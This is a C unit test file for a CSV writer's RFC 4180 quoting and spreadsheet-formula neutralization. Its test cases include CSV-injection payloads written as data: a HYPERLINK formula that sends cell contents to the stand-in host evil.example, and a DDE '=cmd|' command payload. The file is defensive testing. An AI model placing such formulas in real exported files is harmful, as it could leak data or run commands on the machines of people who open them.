/* SPDX-License-Identifier: AGPL-3.0-or-later */
/* report/csv: RFC 4180 quoting and formula neutralization. Expected strings are written from
 * the rules (RFC 4180 §2: fields with commas, quotes or line breaks are quoted and inner quotes
 * doubled; OWASP CSV injection: cells starting with = + - @ tab CR are prefixed with a quote),
 * not copied from the code's output. */
#include "base/prelude.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include "base/buf.h"
#include "base/err.h"
#include "report/csv.h"

static char *text_of(const char *in)
{
    struct buf b;
    buf_init(&b, 0);
    assert_int_equal(csv_text(&b, in), ERR_OK);
    return buf_detach(&b, NULL);
}

static void plain_text_is_written_as_is(void **state)
{
    (void)state;
    static const char *const cases[] = {"google",     "Spring Sale 2026",
                                        "naïve café", "a'b",
                                        "42",         "https://example.com/landing?utm_source=x"};
    for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
        char *got = text_of(cases[i]);
        assert_string_equal(got, cases[i]);
        free(got);
    }
}

static void rfc4180_quoting(void **state)
{
    (void)state;
    static const struct {
        const char *in, *want;
    } cases[] = {
        {"a,b", "\"a,b\""},
        {"say \"hi\"", "\"say \"\"hi\"\"\""},
        {"two\nlines", "\"two\nlines\""},
        {"cr\rhere", "\"cr\rhere\""},
        {" padded ", "\" padded \""},
        {"\"", "\"\"\"\""},
        {"", ""},
    };
    for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
        char *got = text_of(cases[i].in);
        assert_string_equal(got, cases[i].want);
        free(got);
    }
}

static void formulas_are_neutralized(void **state)
{
    (void)state;
    static const struct {
        const char *in, *want;
    } cases[] = {
        {"=1+2", "'=1+2"},
        {"+1+2", "'+1+2"},
        {"-2+3", "'-2+3"},
        {"@SUM(A1:A2)", "'@SUM(A1:A2)"},
        {"\t=1", "'\t=1"},
        {"\r=1", "\"'\r=1\""}, /* CR also forces quoting */
        {"  =1", "\"'  =1\""}, /* leading spaces: neutralized and quoted */
        /* the classic: a hostile campaign name with a comma and quotes inside */
        {"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
         "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""},
        {"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
    };
    for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
        char *got = text_of(cases[i].in);
        assert_string_equal(got, cases[i].want);
        free(got);
    }
}

static void formula_detection(void **state)
{
    (void)state;
    assert_true(csv_is_formula("=x"));
    assert_true(csv_is_formula("   @x"));
    assert_true(csv_is_formula("\nx"));
    assert_false(csv_is_formula("x=1"));
    assert_false(csv_is_formula("a-b"));
    assert_false(csv_is_formula(""));
    assert_false(csv_is_formula(NULL));
    assert_false(csv_is_formula("   "));
}

static void values_are_not_neutralized_but_quoted(void **state)
{
    (void)state;
    struct buf b;
    buf_init(&b, 0);
    assert_int_equal(csv_value(&b, "+14155550123"), ERR_OK);
    assert_int_equal(csv_sep(&b), ERR_OK);
    assert_int_equal(csv_value(&b, "-12.50"), ERR_OK);
    assert_int_equal(csv_sep(&b), ERR_OK);
    assert_int_equal(csv_value(&b, "x,y"), ERR_OK);
    assert_int_equal(csv_sep(&b), ERR_OK);
    assert_int_equal(csv_text(&b, NULL), ERR_OK);
    assert_int_equal(csv_eol(&b), ERR_OK);
    assert_string_equal(b.data, "+14155550123,-12.50,\"x,y\",\r\n");
    buf_release(&b);
}

static void buffer_limit_reports_toobig(void **state)
{
    (void)state;
    struct buf b;
    buf_init(&b, 8);
    assert_int_equal(csv_text(&b, "0123456789abcdef"), ERR_TOOBIG);
    assert_true(b.len <= 8);
    buf_release(&b);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(plain_text_is_written_as_is),
        cmocka_unit_test(rfc4180_quoting),
        cmocka_unit_test(formulas_are_neutralized),
        cmocka_unit_test(formula_detection),
        cmocka_unit_test(values_are_not_neutralized_but_quoted),
        cmocka_unit_test(buffer_limit_reports_toobig),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
